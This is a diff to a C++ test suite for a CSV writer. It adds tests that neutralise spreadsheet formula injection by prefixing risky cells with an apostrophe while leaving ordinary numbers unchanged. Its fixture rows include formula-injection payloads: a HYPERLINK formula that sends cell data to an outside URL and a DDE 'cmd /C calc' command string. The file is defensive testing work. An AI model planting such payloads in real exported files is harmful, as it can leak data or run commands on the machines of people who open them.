@@ -31,7 +31,48 @@ TEST_SUITE("base") {
       std::string text;
       csv_append_record(text, record);
       CAPTURE(text);
-      CHECK(read(text) == std::vector<Record>{record});
+      Record harmless;
+      for (const std::string& field : record) harmless.push_back(csv_harmless(field));
+      CHECK(read(text) == std::vector<Record>{harmless});
+    }
+  }
+
+  TEST_CASE("what a spreadsheet would run as a formula is text and numbers stay numbers") {
+    const std::vector<std::pair<const char*, const char*>> rows = {
+        {"=HYPERLINK(\"http://x/?\"&A1)", "'=HYPERLINK(\"http://x/?\"&A1)"},
+        {"@SUM(1)", "'@SUM(1)"},
+        {"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+        {"-2+3", "'-2+3"},
+        {"\t=1+1", "'\t=1+1"},
+        {"\r=1+1", "'\r=1+1"},
+        {"\n=1+1", "'\n=1+1"},
+        {"\xEF\xBC\x9D"
+         "1+1",
+         "'\xEF\xBC\x9D"
+         "1+1"},
+        {"-", "'-"},
+        {"--1", "'--1"},
+        {"-1.", "'-1."},
+        {"+.5", "'+.5"},
+        {"-0.25", "-0.25"},
+        {"+3", "+3"},
+        {"-17", "-17"},
+        {"-1.5e-05", "-1.5e-05"},
+        {"-1e", "'-1e"},
+        {"-1e5+A1", "'-1e5+A1"},
+        {"a=b", "a=b"},
+        {"'=1", "'=1"},
+        {"", ""}};
+    for (const auto& [field, shown] : rows) {
+      CAPTURE(field);
+      CHECK(csv_harmless(field) == shown);
+      std::string text;
+      csv_append_record(text, {"x", field});
+      CHECK(read(text) == std::vector<Record>{{"x", shown}});
+      // Files that are read back have what was said.
+      std::string exact = "x,";
+      csv_append(exact, field);
+      if (*field != 0) CHECK(read(exact + "\n") == std::vector<Record>{{"x", field}});
     }
   }
 }
